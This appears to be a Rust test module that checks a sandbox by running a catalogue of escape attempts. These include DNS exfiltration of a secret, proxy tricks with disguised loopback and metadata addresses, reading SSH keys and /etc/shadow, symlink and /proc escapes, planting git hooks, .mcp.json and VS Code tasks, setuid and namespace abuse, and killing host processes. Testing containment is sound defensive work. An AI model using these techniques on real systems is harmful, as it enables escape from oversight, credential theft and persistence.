//! The attacks. Paths in the workspace are relative: the attacker starts in it, with jail and without.

use super::fixture::Seen;
use super::host_servers::{REACHED, query};
use super::probe::{Env, Verdict, judge, judge_secret};
use nix::sched::CloneFlags;
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use std::fs;
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

/// What is refused is refused at once; this is for a control on a busy machine.
const PATIENCE: Duration = Duration::from_secs(15);

#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Needs {
    Nothing,
    /// Without jail only root can.
    Root,
    /// Addresses besides loopback's.
    Space,
}

pub struct Attack {
    pub name: &'static str,
    /// What the attack is made with.
    pub with: &'static str,
    pub needs: Needs,
    pub act: fn(&Env, &str) -> Verdict,
    /// What the host shows where it worked.
    pub effect: Option<fn(&Seen<'_>) -> Option<String>>,
    /// Not an attack: what a jail must let through, so that refusals mean something.
    pub must_work: bool,
}

type Act = fn(&Env, &str) -> Verdict;
type Effect = fn(&Seen<'_>) -> Option<String>;

const fn plain(name: &'static str, with: &'static str, act: Act) -> Attack {
    Attack { name, with, needs: Needs::Nothing, act, effect: None, must_work: false }
}

const fn root(name: &'static str, act: Act) -> Attack {
    Attack { needs: Needs::Root, ..plain(name, "", act) }
}

const fn seen(name: &'static str, with: &'static str, act: Act, effect: Effect) -> Attack {
    Attack { effect: Some(effect), ..plain(name, with, act) }
}

pub const ALL: &[Attack] = &[
    // === the network, past the way out
    plain("host_loopback", "loop", direct),
    Attack { needs: Needs::Space, ..plain("host_address", "address", direct) },
    Attack { needs: Needs::Space, ..plain("metadata", "metadata", direct) },
    plain("other_container", "other", other_container),
    plain("dns_to_own_resolver", "exfil", dns),
    root("dns_of_unlisted_name", dns_name),
    plain("engine_socket", "", engine_socket),
    plain("abstract_socket", "", abstract_socket),
    // === the network, by the way out
    Attack { must_work: true, ..plain("allowed_host", "127.0.0.1:{allowed_port}", connect) },
    Attack { must_work: true, ..root_with("allowed_name", "named.test:{allowed_port}", connect) },
    plain("connect_unlisted_name", "other.test:{secret_port}", connect),
    root_with("connect_name_of_loopback", "loop.test:{secret_port}", connect),
    plain("connect_loopback", "127.0.0.1:{secret_port}", connect),
    plain("connect_localhost", "localhost:{secret_port}", connect),
    plain("connect_mapped", "[::ffff:127.0.0.1]:{secret_port}", connect),
    plain("connect_short", "127.1:{secret_port}", connect),
    plain("connect_hexadecimal", "0x7f000001:{secret_port}", connect),
    plain("connect_zero", "0.0.0.0:{secret_port}", connect),
    Attack {
        needs: Needs::Space,
        ..plain("connect_metadata", "169.254.169.254:{metadata_port}", connect)
    },
    plain("absolute_loopback", "127.0.0.1:{secret_port}", absolute),
    plain("socks_loopback", "127.0.0.1", socks),
    plain("socks_unlisted_name", "other.test", socks),
    // === files
    plain("read_ssh", "", |env, _| judge_secret(fs::read(env.path("ssh")), env.get("secret"))),
    root("read_shadow", |_, _| judge_secret(fs::read("/etc/shadow"), "root:")),
    plain("read_beside_workspace", "", |env, _| {
        judge_secret(fs::read("../outside/secret"), env.get("secret"))
    }),
    plain("read_by_link", "", |env, _| judge_secret(fs::read("to-secret"), env.get("secret"))),
    plain("read_by_own_link", "", own_link),
    plain("read_by_proc_root", "", proc_root),
    plain("see_host_processes", "", processes),
    seen(
        "write_outside",
        "planted",
        |env, name| judge(fs::write(env.path("outside").join(name), "x")),
        |seen| exists(seen.fixture.at("outside/planted")),
    ),
    seen(
        "write_granted_for_reading",
        "planted",
        |env, name| judge(fs::write(env.path("granted").join(name), "x")),
        |seen| exists(seen.fixture.at("granted/planted")),
    ),
    seen("write_by_link", "to-victim", write, |seen| {
        let text = fs::read_to_string(seen.fixture.at("outside/victim")).unwrap_or_default();
        (text != "as it was\n").then(|| "it was changed".to_owned())
    }),
    root("write_etc", |env, _| judge(fs::write(env.path("etc"), "x"))),
    root("write_usr_bin", |env, _| judge(fs::write(env.path("program"), "x"))),
    plain("execute_in_tmp", "", execute_in_tmp),
    // === what acts later, outside
    seen("git_hook", ".git/hooks/post-checkout", write, |seen| {
        exists(seen.fixture.at("ws/.git/hooks/post-checkout"))
    }),
    seen("git_config", ".git/config", write, |seen| {
        changed(seen.fixture.at("ws/.git/config"), "[core]\n")
    }),
    seen(
        "git_moved_away",
        "",
        |_, _| judge(fs::rename(".git", ".moved")),
        |seen| exists(seen.fixture.at("ws/.moved")),
    ),
    seen("mcp_json", ".mcp.json", write, |seen| changed(seen.fixture.at("ws/.mcp.json"), "{}\n")),
    seen("new_envrc", ".envrc", try_to_write, |seen| exists(seen.fixture.at("ws/.envrc"))),
    seen(
        "new_vscode_task",
        ".vscode/tasks.json",
        |env, name| {
            fs::create_dir(".vscode").ok();
            try_to_write(env, name)
        },
        |seen| exists(seen.fixture.at("ws/.vscode/tasks.json")),
    ),
    seen("own_policy", ".cloned/policy/x.yaml", try_to_write, |seen| {
        exists(seen.fixture.at("ws/.cloned/policy/x.yaml"))
    }),
    // === rights
    seen("set_uid_bit", "program", set_uid_bit, |seen| {
        let mode =
            fs::metadata(seen.fixture.at("ws/program")).map_or(0, |it| it.permissions().mode());
        (mode & 0o6000 != 0).then(|| format!("its mode is {mode:o}"))
    }),
    root("set_uid_program", set_uid_program),
    root("mount", |_, _| {
        let none: Option<&str> = None;
        judge(
            nix::mount::mount(
                Some("none"),
                "/tmp",
                Some("tmpfs"),
                nix::mount::MsFlags::empty(),
                none,
            )
            .map_err(io::Error::from),
        )
    }),
    root("device_node", |env, _| {
        let path = format!("/tmp/null-{}", env.get("secret"));
        let mode = Mode::from_bits_truncate(0o666);
        let made = mknod(path.as_str(), SFlag::S_IFCHR, mode, makedev(1, 3));
        if made.is_ok() {
            fs::remove_file(path).ok();
        }
        judge(made.map_err(io::Error::from))
    }),
    root("chroot", |_, _| judge(nix::unistd::chroot("/tmp").map_err(io::Error::from))),
    plain("user_namespace", "", |_, _| {
        judge(nix::sched::unshare(CloneFlags::CLONE_NEWUSER).map_err(io::Error::from))
    }),
    root("join_network_namespace", |env, _| {
        let path = format!("/proc/{}/ns/net", env.get("tests"));
        judge(fs::File::open(path).and_then(|file| {
            nix::sched::setns(file, CloneFlags::CLONE_NEWNET).map_err(io::Error::from)
        }))
    }),
    seen("kill_host_process", "", kill, |seen| {
        let stat = fs::read_to_string(format!("/proc/{}/stat", seen.neighbour)).unwrap_or_default();
        stat.contains(") Z ").then(|| "it is gone".to_owned())
    }),
];

const fn root_with(name: &'static str, with: &'static str, act: Act) -> Attack {
    Attack { needs: Needs::Root, ..plain(name, with, act) }
}

fn exists(path: PathBuf) -> Option<String> {
    fs::symlink_metadata(&path).is_ok().then(|| format!("{} is there", path.display()))
}

fn changed(path: PathBuf, before: &str) -> Option<String> {
    let now = fs::read_to_string(path).unwrap_or_default();
    (now != before).then(|| format!("it is now {now:?}"))
}

fn write(_: &Env, path: &str) -> Verdict {
    judge(fs::write(path, "planted"))
}

/// A write that may be let through; what counts is what is there afterwards.
fn try_to_write(_: &Env, path: &str) -> Verdict {
    Verdict::Tried(match fs::write(path, "planted") {
        Ok(()) => "written".to_owned(),
        Err(error) => error.to_string(),
    })
}

// === network

/// Reads until the server is known, or it ends.
fn reached(mut stream: impl Read) -> Verdict {
    let (mut all, mut piece) = (Vec::new(), [0; 1024]);
    let error = loop {
        match stream.read(&mut piece) {
            Ok(0) => break None,
            Ok(length) => all.extend(&piece[..length]),
            Err(error) => break Some(error),
        }
    };
    let said = String::from_utf8_lossy(&all).into_owned();
    let first = said.lines().next().unwrap_or_default().to_owned();
    match error {
        _ if said.contains(REACHED) => Verdict::Got("the server answered".to_owned()),
        Some(error) if said.is_empty() => Verdict::Refused(error.to_string()),
        _ if said.is_empty() => Verdict::Refused("closed".to_owned()),
        _ => Verdict::Refused(first),
    }
}

fn dial(to: &str) -> io::Result<TcpStream> {
    let address: SocketAddr = to.parse().map_err(io::Error::other)?;
    let stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    Ok(stream)
}

fn answer(stream: io::Result<impl Read>) -> Verdict {
    match stream {
        Ok(stream) => reached(stream),
        Err(error) => Verdict::Refused(error.to_string()),
    }
}

fn direct(env: &Env, which: &str) -> Verdict {
    answer(dial(env.get(which)))
}

fn other_container(env: &Env, which: &str) -> Verdict {
    let asked = dial(env.get(which)).and_then(|mut stream| {
        stream.write_all(b"GET /health HTTP/1.0\r\n\r\n")?;
        let mut said = String::new();
        stream.read_to_string(&mut said).map(|_| said)
    });
    match asked {
        Ok(said) if said.contains("200 OK") => Verdict::Got("it answered".to_owned()),
        Ok(said) => Verdict::Refused(format!("it said {said:?}")),
        Err(error) => Verdict::Refused(error.to_string()),
    }
}

/// A jail's own resolver may answer in the place of the one that was asked: with no address.
fn dns(env: &Env, label: &str) -> Verdict {
    let asked = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
        socket.set_read_timeout(Some(PATIENCE))?;
        let name = format!("{label}.{}.test", env.get("secret"));
        socket.send_to(&query(&name), env.get("resolver"))?;
        let mut bytes = [0; 1500];
        socket.recv_from(&mut bytes)?;
        Ok((bytes[3] & 15, bytes[7]))
    });
    match asked {
        Ok((0, 1..)) => Verdict::Got("an address".to_owned()),
        Ok((code, _)) => Verdict::Refused(format!("answer code {code}")),
        Err(error) => Verdict::Refused(error.to_string()),
    }
}

fn dns_name(env: &Env, _: &str) -> Verdict {
    judge((format!("{}.exfil.test", env.get("secret")), 80).to_socket_addrs())
}

fn engine_socket(env: &Env, _: &str) -> Verdict {
    let asked = UnixStream::connect(env.path("engine_socket")).and_then(|mut stream| {
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.write_all(b"GET /_ping HTTP/1.0\r\n\r\n")?;
        let mut said = String::new();
        stream.read_to_string(&mut said).map(|_| said)
    });
    match asked {
        Ok(said) if said.contains("200 OK") => Verdict::Got("the engine answered".to_owned()),
        Ok(said) => Verdict::Refused(format!("it said {said:?}")),
        Err(error) => Verdict::Refused(error.to_string()),
    }
}

fn abstract_socket(env: &Env, _: &str) -> Verdict {
    let address = std::os::unix::net::SocketAddr::from_abstract_name(env.get("abstract"));
    answer(address.and_then(|address| UnixStream::connect_addr(&address)))
}

/// Where the HTTP proxy is: the naive one without jail, else that of the variables.
fn http_proxy(env: &Env) -> String {
    let named = std::env::var("http_proxy").unwrap_or_default();
    if env.jailed() { named.replace("http://", "") } else { env.get("http").to_owned() }
}

fn put(env: &Env, with: &str) -> String {
    ["allowed_port", "secret_port", "metadata_port"]
        .iter()
        .fold(with.to_owned(), |text, name| text.replace(&format!("{{{name}}}"), env.get(name)))
}

fn connect(env: &Env, target: &str) -> Verdict {
    let to = put(env, target);
    answer(dial(&http_proxy(env)).and_then(|mut stream| {
        write!(stream, "CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n").map(|()| stream)
    }))
}

fn absolute(env: &Env, target: &str) -> Verdict {
    let to = put(env, target);
    answer(dial(&http_proxy(env)).and_then(|mut stream| {
        write!(stream, "GET http://{to}/ HTTP/1.1\r\nHost: {to}\r\nConnection: close\r\n\r\n")
            .map(|()| stream)
    }))
}

fn socks(env: &Env, name: &str) -> Verdict {
    let door = match env.jailed() {
        true => http_proxy(env).replace(":3128", ":1080"),
        false => env.get("socks").to_owned(),
    };
    let port: u16 = env.get("secret_port").parse().unwrap_or(0);
    let length = u8::try_from(name.len()).unwrap_or(0);
    answer(dial(&door).and_then(|mut stream| {
        stream.write_all(&[5, 1, 0])?;
        let mut chosen = [0; 2];
        stream.read_exact(&mut chosen)?;
        stream
            .write_all(&[&[5, 1, 0, 3, length], name.as_bytes(), &port.to_be_bytes()].concat())?;
        let mut reply = [0; 10];
        stream.read_exact(&mut reply)?;
        match reply[1] {
            0 => Ok(stream),
            code => Err(io::Error::other(format!("SOCKS answers {code}"))),
        }
    }))
}

// === files and rights

fn own_link(env: &Env, _: &str) -> Verdict {
    let target = env.path("outside").join("secret");
    judge_secret(symlink(target, "own-link").and_then(|()| fs::read("own-link")), env.get("secret"))
}

fn proc_root(env: &Env, _: &str) -> Verdict {
    let file = env.path("outside").join("secret");
    let mut last = Verdict::Refused("nothing was tried".to_owned());
    for who in ["1", "self", env.get("neighbour"), env.get("tests")] {
        last = judge_secret(
            fs::read(format!("/proc/{who}/root{}", file.display())),
            env.get("secret"),
        );
        if matches!(last, Verdict::Got(_)) {
            break;
        }
    }
    last
}

fn processes(env: &Env, _: &str) -> Verdict {
    let name = format!("neighbour-{}", env.get("secret"));
    let entries = fs::read_dir("/proc").map(|entries| {
        let lines = entries.flatten().filter_map(|it| fs::read(it.path().join("cmdline")).ok());
        lines.map(|line| String::from_utf8_lossy(&line).into_owned()).collect::<Vec<_>>()
    });
    match entries {
        Ok(lines) if lines.iter().any(|line| line.starts_with(&name)) => {
            Verdict::Got("the host's process".to_owned())
        }
        Ok(lines) => Verdict::Refused(format!("not among {} entries", lines.len())),
        Err(error) => Verdict::Refused(error.to_string()),
    }
}

fn execute_in_tmp(env: &Env, _: &str) -> Verdict {
    let path = PathBuf::from(format!("/tmp/program-{}", env.get("secret")));
    let ran = std::env::current_exe()
        .and_then(|me| fs::copy(me, &path))
        .and_then(|_| Command::new(&path).args(["--probe-one", "euid"]).output());
    fs::remove_file(&path).ok();
    judge(ran)
}

fn set_uid_bit(_: &Env, path: &str) -> Verdict {
    judge(fs::set_permissions(path, fs::Permissions::from_mode(0o4755)))
}

/// Without jail it is started by nobody, to whom root's program gives root.
fn set_uid_program(env: &Env, _: &str) -> Verdict {
    let mut command = Command::new(env.path("granted").join("set-uid"));
    command.args(["--probe-one", "euid"]);
    if !env.jailed() {
        command.uid(65534).gid(65534);
    }
    match command.output() {
        Ok(output) if output.stdout.starts_with(b"euid 0") => Verdict::Got("root".to_owned()),
        Ok(output) => Verdict::Refused(String::from_utf8_lossy(&output.stdout).trim().to_owned()),
        Err(error) => Verdict::Refused(error.to_string()),
    }
}

fn kill(env: &Env, _: &str) -> Verdict {
    let pid = env.get("neighbour").parse().unwrap_or(i32::MAX);
    let killed =
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), nix::sys::signal::Signal::SIGKILL);
    judge(killed.map_err(io::Error::from))
}
